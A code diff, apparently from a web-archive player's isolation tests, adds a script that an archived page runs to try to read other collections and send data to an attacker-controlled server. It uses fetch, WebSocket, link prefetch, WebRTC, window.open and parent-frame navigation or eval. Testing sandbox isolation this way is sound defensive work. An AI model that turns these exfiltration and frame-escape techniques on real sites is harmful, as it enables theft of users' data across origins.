@@ -106,3 +106,68 @@ export const ATTACK = String.raw`async (target) => {
   })
   return tried
 }`
+
+export interface LeakTargets {
+  /** A server of the attacker. */
+  leak: string
+  /** Its port for UDP, where WebRTC looks for its own address. */
+  stunPort: number
+  /** What other collections have, at whatever origin. */
+  others: string[]
+}
+
+/**
+ * Everything an archived page can try to read of other collections, and to carry off what it has read: a function as
+ * text, for the frame of a capture. Names and realms that the player does not rewrite are tried, too.
+ */
+export const LEAK = String.raw`async ({ leak, stunPort, others }) => {
+  const tried = {}
+  const attempt = async (name, act) => {
+    const patience = new Promise((resolve) => setTimeout(() => resolve('refused'), 5_000))
+    tried[name] = await Promise.race([act().catch(() => 'refused'), patience])
+  }
+  const frame = document.createElement('iframe')
+  document.body.append(frame)
+  const realms = { own: window, fresh: frame.contentWindow }
+  for (const [realm, { fetch, WebSocket, document: page }] of Object.entries(realms)) {
+    for (const [i, url] of others.entries()) {
+      await attempt(realm + ' reads ' + i, async () => {
+        const response = await fetch(url)
+        return response.ok ? 'read ' + (await response.text()).slice(0, 200) : 'refused'
+      })
+    }
+    await attempt(realm + ' fetches', () => fetch(leak + '/fetch', { mode: 'no-cors' }).then(() => 'refused'))
+    await attempt(realm + ' opens a socket', async () => {
+      new WebSocket(leak.replace('http', 'ws') + '/socket')
+      return 'refused'
+    })
+    for (const rel of ['preconnect', 'prefetch', 'dns-prefetch', 'stylesheet']) {
+      const link = page.createElement('link')
+      link.rel = rel
+      link.href = leak + '/' + rel
+      page.head.append(link)
+    }
+  }
+  const connect = async ({ RTCPeerConnection }) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + stunPort }] })
+    peer.createDataChannel('secret')
+    await peer.setLocalDescription(await peer.createOffer())
+    await new Promise((resolve) => {
+      peer.onicecandidate = ({ candidate }) => candidate === null && resolve()
+    })
+    return 'refused'
+  }
+  await attempt('connects', () => connect(window))
+  window.open(leak + '/window')
+  // When this was reported: a frame that tries to leave is none any more, and Chromium ends the process of one that
+  // connects by way of an empty frame.
+  setTimeout(() => {
+    void connect(realms.fresh)
+    for (let above = window; above !== above.parent;) {
+      above = above.parent
+      try { above.location = leak + '/above' } catch {}
+      try { above.eval('location = "' + leak + '/eval"') } catch {}
+    }
+  }, 200)
+  return tried
+}`
